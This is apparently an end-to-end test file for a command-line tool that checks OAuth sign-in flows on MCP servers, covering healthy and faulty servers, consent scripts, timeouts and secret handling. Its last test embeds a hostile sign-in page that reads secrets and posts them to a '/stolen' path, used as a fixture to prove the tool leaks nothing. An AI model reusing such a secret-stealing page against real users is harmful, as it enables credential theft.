import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { KnownClient } from '../src/sandbox/options.ts'
import { holding } from './holding.ts'
import { expect, test } from './journey.ts'
import { runFlow } from './program.ts'

const CLIENT_SECRET = 'secret-from-the-environment'
const HEADER_VALUE = 'tenant-key-from-the-command-line'

const BY_HAND: KnownClient = {
  clientId: 'by-hand',
  clientSecret: CLIENT_SECRET,
  method: 'client_secret_basic',
  // The runner's page is at another port each time, which RFC 8252 allows for loopback.
  redirectUris: ['http://localhost/callback.html'],
}

const REPORTS = ['summary.json', 'junit.xml', 'report.sarif', 'summary.md', 'report.html']

const ALLOW = `export default async (page) => {
  await page.getByRole('textbox', { name: 'Name' }).fill('Ada')
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByRole('button', { name: 'Allow' }).click()
}`

test('a healthy server passes, with its run document alone on standard output', async ({
  practice,
}) => {
  const server = await practice()
  const { code, stdout, stderr } = await runFlow([server.url, '--json', '--refresh', '--revoke'])
  expect(stdout.trimEnd()).not.toContain('\n')
  expect(stdout).toContain('"status":"passed"')
  const document = JSON.parse(stdout)
  expect(document).toMatchObject({ format: 'mcp-flow-run', config: { server: server.url } })
  expect(document.tools).toHaveLength(12)
  expect(statusOf(document, 'refresh')).toBe('passed')
  expect(statusOf(document, 'revoke')).toBe('passed')
  expect(stderr).toContain('1 target, 1 as expected')
  expect(code).toBe(0)
})

test('a server with a fault fails, with its cause and the fix', async ({ practice }) => {
  const server = await practice({ fault: 'prm-resource-other-origin' })
  const { code, stdout } = await runFlow([server.url])
  expect(stdout).toMatch(/^✗ \S+  failed  PRM-07  /)
  expect(stdout).toContain('    fix: ')
  expect(stdout).toContain('1 target, 0 as expected, 1 not')
  expect(code).toBe(1)
})

test('each target of a file is held against what is expected of it', async ({ practice }, info) => {
  const [healthy, faulty, other] = await Promise.all([
    practice(),
    practice({ fault: 'prm-resource-other-origin' }),
    practice({ fault: 'no-challenge' }),
  ])
  const file = info.outputPath('targets.json')
  const targets = [
    { name: 'healthy', server: healthy.url, revision: '2025-11-25', expect: { rules: [] } },
    { name: 'known fault', server: faulty.url, expect: { status: 'failed', cause: 'PRM-07' } },
    { name: 'other fault', server: other.url, expect: { cause: 'PRM-07' } },
  ]
  writeFileSync(file, JSON.stringify({ targets }))
  const folder = info.outputPath('out')
  const { code, stdout } = await runFlow(['--targets', file, '--out', folder, '--workers', '3'])
  expect(stdout).toMatch(/^✓ healthy  passed  /m)
  expect(stdout).toMatch(/^✓ known fault  failed  PRM-07  /m)
  expect(stdout).toMatch(/^✗ other fault  /m)
  expect(stdout).toContain('expected PRM-07 as the cause, but it is ')
  expect(code).toBe(1)
  const runs = ['healthy', 'known-fault', 'other-fault']
  expect(new Set(readdirSync(folder))).toEqual(
    new Set([...runs.flatMap((name) => [`${name}.run.json`, `${name}.har`]), ...REPORTS]),
  )
  expect(readJson(folder, 'healthy.run.json').config.revision).toBe('2025-11-25')
  const summary = readJson(folder, 'summary.json')
  expect(summary.counts).toEqual({ targets: 3, asExpected: 2, different: 1, notRun: 0 })
})

test('a consent module signs in and allows, in the same tab and in a pop-up', async ({
  practice,
}, info) => {
  const server = await practice({ login: 'page', consent: 'page' })
  const file = info.outputPath('targets.json')
  writeFileSync(info.outputPath('consent.mjs'), ALLOW)
  const target = { server: server.url, consent: 'consent.mjs' }
  const targets = [
    { ...target, name: 'same tab' },
    { ...target, name: 'pop-up', authorize: 'popup' },
  ]
  writeFileSync(file, JSON.stringify({ targets }))
  const { code, stdout } = await runFlow(['--targets', file])
  expect(stdout).toContain('2 targets, 2 as expected')
  expect(code).toBe(0)
})

test('a consent page that nobody drives leaves a run that waits, and a hint', async ({
  practice,
}) => {
  const server = await practice({ consent: 'page' })
  const { code, stdout, stderr } = await runFlow([server.url, '--json'])
  expect(JSON.parse(stdout).outcome).toMatchObject({ status: 'stopped', step: 'authorization' })
  expect(stderr).toContain(`at ${server.issuer}/authorize waits for a person: drive it with`)
  expect(code).toBe(1)
})

test('a consent module that fails, hangs or closes the page is told, with the run so far', async ({
  practice,
}, info) => {
  const server = await practice({ consent: 'page' })
  const modules = {
    fails: 'export default async () => { throw new Error("no such button") }',
    hangs: 'export default () => new Promise(() => {})',
    closes: 'export default (page) => page.close()',
  }
  const targets = Object.entries(modules).map(([name, text]) => {
    writeFileSync(info.outputPath(`${name}.mjs`), text)
    return { name, server: server.url, consent: `${name}.mjs`, timeout: 6000 }
  })
  const file = info.outputPath('targets.json')
  writeFileSync(file, JSON.stringify({ targets }))
  const folder = info.outputPath('out')
  const { code, stdout } = await runFlow(['--targets', file, '--out', folder, '--workers', '3'])
  expect(stdout).toContain('    the consent module failed: no such button')
  expect(stdout).toContain('    it was not done within 6000 ms')
  expect(stdout).toContain('    the page was closed')
  expect(code).toBe(1)
  for (const name of ['fails', 'hangs']) {
    expect(readJson(folder, `${name}.run.json`).outcome.status).toBe('stopped')
  }
  expect(readdirSync(folder)).not.toContain('closes.run.json')
})

test('a server that never answers is given up, with the exchange that it owes', async ({
  practice,
}) => {
  const held = holding('POST', '/mcp')
  const server = await practice({ answer: held.answer })
  const { code, stdout, stderr } = await runFlow([server.url, '--json', '--timeout', '4000'])
  held.release()
  expect(stderr).toContain('it was not done within 4000 ms')
  const document = JSON.parse(stdout)
  expect(document.outcome.status).toBe('stopped')
  expect(document.exchanges[0].outcome.kind).toBe('aborted')
  expect(code).toBe(1)
})

test('no secret gets out, neither by words nor by files', async ({ practice }, info) => {
  const seen: (string | null)[] = []
  const server = await practice({
    answer: (request, sandbox) => {
      if (new URL(request.url).pathname === '/mcp') seen.push(request.headers.get('x-tenant-key'))
      return sandbox.fetch(request)
    },
    registration: { known: [BY_HAND] },
  })
  const folder = info.outputPath('out')
  const header = `X-Tenant-Key: ${HEADER_VALUE}`
  const args = ['--client-id', 'by-hand', '--header', header, '--refresh', '--out', folder]
  const { code, stdout, stderr } = await runFlow([server.url, '--json', ...args], {
    FLOW_CLIENT_SECRET: CLIENT_SECRET,
  })
  expect(stderr).toContain('1 target, 1 as expected')
  expect(code).toBe(0)
  expect(seen).toContain(HEADER_VALUE)
  const files = readdirSync(folder).map((name) => readFileSync(join(folder, name), 'utf8'))
  const everything = [stdout, stderr, ...files].join('\n')
  const issued = server.sandbox.secretsIssued()
  expect(issued.length).toBeGreaterThan(3)
  const basic = Buffer.from(`by-hand:${CLIENT_SECRET}`).toString('base64')
  const secrets = [...issued, CLIENT_SECRET, HEADER_VALUE, basic]
  expect(secrets.filter((secret) => everything.includes(secret))).toEqual([])
})

test('an authorization server can neither ask for the secrets nor tell of a run', async ({
  practice,
}) => {
  const stolen: string[] = []
  const server = await practice({
    registration: { known: [BY_HAND] },
    answer: async (request, sandbox) => {
      const url = new URL(request.url)
      if (url.pathname === '/stolen') stolen.push(await request.text())
      if (url.pathname !== '/authorize' || url.searchParams.has('done'))
        return sandbox.fetch(request)
      return new Response(THIEF, { headers: { 'Content-Type': 'text/html' } })
    },
  })
  const args = ['--json', '--client-id', 'by-hand', '--header', `X-Tenant-Key: ${HEADER_VALUE}`]
  const { stdout } = await runFlow([server.url, ...args], { FLOW_CLIENT_SECRET: CLIENT_SECRET })
  expect(stolen).toEqual(['{}'])
  expect(JSON.parse(stdout).outcome.status).toBe('passed')
})

const THIEF = `<!doctype html><title>Sign in</title><script type="module">
const secrets = await globalThis.mcpFlowSecrets()
await fetch('/stolen', { method: 'POST', body: secrets })
await globalThis.mcpFlowHalted(JSON.stringify({ format: 'mcp-flow-run', outcome: { status: 'of the thief' } }))
location.search += '&done=1'
</script>`

function statusOf(document: { steps: readonly { id: string; status: string }[] }, step: string) {
  return document.steps.find(({ id }) => id === step)?.status
}

function readJson(folder: string, name: string) {
  return JSON.parse(readFileSync(join(folder, name), 'utf8'))
}
